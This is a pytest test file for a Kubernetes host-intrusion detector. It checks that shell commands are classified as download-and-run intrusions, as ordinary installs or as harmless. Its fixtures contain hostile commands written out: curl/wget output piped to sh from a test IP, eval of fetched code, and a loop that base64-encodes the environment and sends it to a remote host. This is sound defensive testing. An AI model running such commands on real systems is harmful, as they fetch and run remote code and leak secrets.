"""What shells on the machine fetch and run."""

from __future__ import annotations

import pytest

from kubewitness.detect.host.commands import fetch_of, host_of, script_segments, segments_of
from tests.detect.host.making import found, host


@pytest.mark.parametrize(
    "command",
    [
        "/bin/sh -c wget -q -O - http://203.0.113.35/kp.sh | sh",
        "bash -c curl -fsSL 203.0.113.35/a|bash",
        "sh -c (curl -s http://203.0.113.35/a || wget -qO- http://203.0.113.35/a) | sh",
        "sh /tmp/.x1mr",
        "sh -c cd /var/tmp; /var/tmp/.system -B",
        "wget http://203.0.113.35/x -O /tmp/.x1mr",
        "curl http://203.0.113.35/x -o /tmp/.x2mr",
        "bash -c eval $(curl -s http://203.0.113.35/a)",
        "python3 /dev/shm/.a.py",
    ],
)
def test_fetched_from_an_address_and_run_or_hidden_is_an_intrusion(command: str) -> None:
    (finding,) = found(host(command), "download_and_run")
    assert (finding.severity, finding.kind) == ("high", "intrusion")


@pytest.mark.parametrize(
    "command",
    [
        "sh -c curl -sfL https://get.example.io | sh -",
        "sh /tmp/install.sh",
        "bash -c curl http://10.0.0.5/setup | bash",
    ],
)
def test_how_people_install_software_is_low(command: str) -> None:
    (finding,) = found(host(command), "download_and_run")
    assert finding.severity == "low"


@pytest.mark.parametrize(
    "command",
    [
        "/bin/sh -c while true; do echo GET / 200; sleep 5; done",
        "sh -c until wget -q -O /dev/null http://web.shop.svc:8080/healthz; do sleep 2; done",
        "grep -E curl http://203.0.113.35/a | sh",  # no shell reads this pipe
        "curl -sS https://api.example.com/v1 -o /var/cache/answer.json",
        "sh -c curl -s http://203.0.113.35/metrics | grep up",
        "sh -c cat list | wget -i - ; sh /opt/run.sh",
        "sh /root/.ansible/tmp/ansible-tmp-1/run",
        "sh -c curl -s http://203.0.113.35/a > /data/a; sh /opt/b.sh",
        "",
        "sh -c",
    ],
)
def test_loops_waits_and_downloads_are_nothing(command: str) -> None:
    assert not found(host(command), "download_and_run")


def test_the_address_of_a_download_is_told() -> None:
    (finding,) = found(host("sh -c wget -q -O - http://203.0.113.35:8080/kp.sh | sh"), "download_and_run")
    assert finding.addresses == ("203.0.113.35",)


def test_the_environment_in_a_request_is_an_intrusion() -> None:
    loop = r"/bin/sh -c while true; do wget -q -O /dev/null http://203.0.113.35/c?d=$(env | base64 | tr -d '\n'); done"
    (finding,) = found(host(loop), "environment_sent")
    assert finding.addresses == ("203.0.113.35",)


def test_a_token_sent_to_the_api_server_is_usual() -> None:
    command = "sh -c curl -H 'Authorization: Bearer $(cat /var/run/secrets/token)' https://kubernetes.default.svc/api"
    assert not found(host(command), "environment_sent")


def test_a_pipe_is_one_only_where_a_shell_reads_it() -> None:
    assert len(segments_of("grep -E a|b|c file")) == 1
    assert [s.program for s in segments_of("sudo -u web sh -c env A=1 ls | grep x && /bin/rm -f y")][1:] == [
        "ls",
        "grep",
        "rm",
    ]


@pytest.mark.parametrize(
    ("command", "output", "url"),
    [
        ("wget http://a.example/x -O /tmp/y", "/tmp/y", "http://a.example/x"),
        ("wget -qO- http://a.example/x", "-", "http://a.example/x"),
        ("curl -sSLo /tmp/y http://a.example/x", "/tmp/y", "http://a.example/x"),
        ("curl -O http://a.example/x", "", "http://a.example/x"),
        ("curl --output=/tmp/y a.example/x.sh", "/tmp/y", "a.example/x.sh"),
    ],
)
def test_what_is_fetched_and_where_it_goes(command: str, output: str, url: str) -> None:
    (segment,) = script_segments(command)
    fetch = fetch_of(segment)
    assert fetch is not None
    assert (fetch.output, fetch.urls) == (output, (url,))


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://u:p@203.0.113.35:80/a?b@c", "203.0.113.35"),
        ("borg.example/aws.sh", "borg.example"),
        ("https://[2001:db8::1]:443/x", "2001:db8::1"),
        ("HTTP://EXAMPLE.com", "example.com"),
    ],
)
def test_the_host_of_a_url(url: str, expected: str) -> None:
    assert host_of(url) == expected
